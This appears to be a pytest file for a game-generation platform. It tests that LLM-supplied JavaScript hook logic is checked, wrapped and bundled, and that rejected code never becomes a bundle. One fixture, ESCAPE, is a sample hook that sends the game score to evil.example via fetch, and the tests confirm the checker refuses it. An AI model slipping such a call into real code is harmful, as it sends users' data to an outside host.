"""Custom logic (logic.js) from the checker to the bundle: what ships, what never does.

The browser half (the runtime calling the hooks) is in tests/e2e/test_generation_logic.py.
"""

import hashlib
import json
import re

import pytest

from gamefactory.errors import ApplicationError
from generation.bundle import LOGIC_SCRIPT, bundle_build, bundle_files, bundle_verify
from generation.bundle import STATIC_DIR as RUNTIME_DIR
from generation.jscheck import CTX_API, HOOK_NAMES, logic_wrap
from generation.providers.base import DesignResult
from generation.services import game_build
from generation.spec import spec_validate
from tests.generation.specs import spec_data

LOGIC = '"use strict";\nconst hooks = {\n  onLevelStart(ctx, level) { ctx.addScore(7); },\n  onScore(ctx, points) { return points * 2; },\n};\n'
ESCAPE = '"use strict";\nconst hooks = {\n  onStart(ctx) {\n    fetch("https://evil.example/" + ctx.score);\n  },\n};\n'


def snake():
    return spec_validate(spec_data("snake"))


def script_sources(index_html: bytes) -> list[str]:
    return re.findall(r'<script src="([^"]+)"></script>', index_html.decode())


def test_logic_ships_wrapped_after_the_runtime_and_before_the_mechanic(tmp_path):
    # when a bundle is built with custom logic
    bundle = bundle_build(spec=snake(), out_dir=tmp_path / "b", logic_js=LOGIC)

    # then logic.js is the checker's wrapper around the source, loaded between runtime and mechanic
    assert (bundle.path / LOGIC_SCRIPT).read_text() == logic_wrap(source=LOGIC)
    assert script_sources(bundle.index.read_bytes())[1:] == ["runtime.js", "logic.js", "mechanics/snake.js"]
    # and the manifest lists it: as a file (hash, size) and as the game's logic, with its hooks
    data = (bundle.path / LOGIC_SCRIPT).read_bytes()
    assert bundle.manifest["files"][LOGIC_SCRIPT] == {
        "sha256": hashlib.sha256(data).hexdigest(),
        "size": len(data),
    }
    assert bundle.manifest["logic"] == {
        "path": LOGIC_SCRIPT,
        "hooks": ["onLevelStart", "onScore"],
        "source_sha256": hashlib.sha256(LOGIC.encode()).hexdigest(),
    }
    assert bundle_verify(path=bundle.path) == []


def test_a_bundle_with_logic_is_deterministic_and_differs_from_one_without():
    # when the same spec is built twice with the same logic, and once without
    first = bundle_files(spec=snake(), logic_js=LOGIC)
    second = bundle_files(spec=snake(), logic_js=LOGIC)
    plain = bundle_files(spec=snake())

    # then the same bytes; without logic, no logic.js, no script tag and no manifest entry
    assert first == second
    assert LOGIC_SCRIPT not in plain
    assert "logic.js" not in plain["index.html"].decode()
    assert "logic" not in json.loads(plain["manifest.json"])


@pytest.mark.parametrize("empty", [None, "", "   \n\t"])
def test_no_logic_or_blank_logic_ships_nothing(empty):
    files = bundle_files(spec=snake(), logic_js=empty)
    assert LOGIC_SCRIPT not in files


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        (ESCAPE, "line 4:5: `fetch`"),
        ('"use strict";\nconst hooks = { onStart(ctx) { document.title = "x"; } };', "`document`"),
        ("const hooks = {", "line 1"),
        ('"use strict";\nconst hooks = { onWhatever(ctx) {} };', "unknown hook"),
        (b"const hooks = {};", "must be text"),
    ],
)
def test_refused_logic_never_becomes_a_bundle(tmp_path, source, reason):
    # when the builder is handed code the checker refuses (it checks again, whoever calls it)
    with pytest.raises(ApplicationError) as info:
        bundle_build(spec=snake(), out_dir=tmp_path / "b", logic_js=source)

    # then it is refused on the field logic.js, with the line, and nothing is written
    assert info.value.code == "logic_refused"
    assert reason in " ".join(info.value.fields["logic.js"]), info.value.fields
    assert not (tmp_path / "b").exists()


def test_game_build_passes_the_designs_logic_through(tmp_path):
    # given a design that came with checked logic (as an LLM provider returns it)
    design = DesignResult(spec=snake(), provider="openai", logic_js=LOGIC)

    # when it is built by the service the platform calls
    bundle = game_build(design=design, out_dir=tmp_path / "b")

    # then the bundle runs that logic
    assert bundle.manifest["logic"]["hooks"] == ["onLevelStart", "onScore"]
    assert (bundle.path / LOGIC_SCRIPT).read_text() == logic_wrap(source=LOGIC)


def test_game_build_without_logic(tmp_path):
    bundle = game_build(design=DesignResult(spec=snake(), provider="local"), out_dir=tmp_path / "b")
    assert "logic" not in bundle.manifest and not (bundle.path / LOGIC_SCRIPT).exists()


def test_the_runtime_calls_exactly_the_hooks_the_checker_accepts():
    # the checker tells LLMs which hooks exist; the runtime must call the same ones
    runtime = (RUNTIME_DIR / "runtime.js").read_text()
    declared = re.search(r"var HOOK_NAMES = \[([^\]]*)\]", runtime).group(1)
    assert re.findall(r'"(\w+)"', declared) == list(HOOK_NAMES)
    for name in HOOK_NAMES:
        assert f'callHook("{name}"' in runtime, name


def test_the_runtime_gives_hooks_the_ctx_the_checker_describes():
    # the checker tells LLMs what ctx holds; the runtime's frozen ctx must hold exactly that
    runtime = (RUNTIME_DIR / "runtime.js").read_text()
    block = runtime[runtime.index("var ctx = Object.freeze({") :]
    block = block[: block.index("\n  });\n")]
    members = re.findall(r"^    (?:get )?(\w+)(?:\(\)|:)", block, flags=re.MULTILINE)
    assert sorted(members) == sorted(name.split("(")[0] for name in CTX_API)
